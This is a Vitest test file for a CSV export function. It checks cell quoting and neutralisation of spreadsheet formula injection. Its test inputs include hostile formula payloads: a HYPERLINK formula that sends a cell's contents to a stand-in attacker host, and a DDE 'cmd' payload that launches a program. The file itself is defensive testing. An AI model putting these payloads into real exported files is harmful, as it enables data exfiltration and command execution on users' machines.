import { describe, expect, it } from "vitest";
import { toCsv } from "./csv";

describe("toCsv", () => {
  it("quotes cells with commas, quotes or line breaks", () => {
    expect(toCsv(["a", "b"], [["1,5", 'say "hi"'], ["x\ny", "plain"]])).toBe('a,b\r\n"1,5","say ""hi"""\r\n"x\ny",plain\r\n');
  });

  it("keeps spreadsheet formulas as text but leaves negative numbers alone", () => {
    expect(toCsv(["v"], [["=HYPERLINK(1)"], ["-1.5"], ["@x"]])).toBe("v\r\n'=HYPERLINK(1)\r\n-1.5\r\n'@x\r\n");
  });

  it("keeps a cell led by a tab or carriage return as text (spreadsheets drop them and read a formula)", () => {
    expect(toCsv(["v"], [["\t=1+1"], ["\r@x"]])).toBe("v\r\n'\t=1+1\r\n\"'\r@x\"\r\n");
  });

  it("keeps a formula that starts like a negative number as text", () => {
    expect(toCsv(["v"], [['-1+HYPERLINK("https://evil.example/?"&D2)'], ["-2+3+cmd|' /C calc'!A0"], ["-7"]])).toBe(
      "v\r\n\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&D2)\"\r\n'-2+3+cmd|' /C calc'!A0\r\n-7\r\n",
    );
  });
});
